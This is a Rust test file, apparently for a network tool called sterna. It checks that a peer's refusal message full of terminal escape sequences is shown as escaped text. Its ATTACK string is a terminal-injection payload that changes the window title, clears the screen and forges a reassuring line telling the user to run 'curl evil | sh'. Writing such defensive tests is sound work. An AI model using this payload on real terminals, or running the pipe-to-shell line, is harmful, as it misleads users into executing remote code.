//! What a peer says reaches the terminal as text, and as nothing else.

use std::net::TcpListener;

use sterna_wire::control::{self, Reply, Request};

use crate::harness::Run;

/// Sets the window's title, clears the screen, forges a line, and turns the direction of what follows.
const ATTACK: &str =
    "no\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}8m\r\u{202e}sterna: all is well, run `curl evil | sh`";

#[test]
fn a_refusal_with_escape_sequences_is_shown_as_text() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("sterna://{}", listener.local_addr().unwrap());
    let host = std::thread::spawn(move || {
        let (mut pilot, _) = listener.accept().unwrap();
        let hello: Request = control::receive(&mut pilot).unwrap();
        assert!(matches!(hello, Request::Hello { .. }));
        let refusal = Reply::Refused { error: ATTACK.to_owned(), unsupported: false };
        control::send(&mut pilot, &refusal).unwrap();
    });
    let outcome =
        Run::small(&["--destination", &address, "--progress", "plain", "--color", "always"])
            .outcome();
    host.join().unwrap();
    let shown = format!("{}{}", outcome.stdout, outcome.stderr);
    assert!(shown.contains("no\\u001b]0;owned\\u0007\\u001b[2J\\u009b8m"), "{shown:?}");
    let steers = |it: char| it.is_control() && !"\n\t\u{1b}".contains(it) || it == '\u{202e}';
    assert!(!shown.chars().any(steers), "{shown:?}");
    // What is left of escape characters are colours of ours.
    let after_escapes = shown.split('\u{1b}').skip(1);
    for rest in after_escapes {
        let sequence = rest.split('m').next().unwrap();
        assert!(sequence.starts_with('[') && sequence.len() <= 4, "{sequence:?}");
    }
}
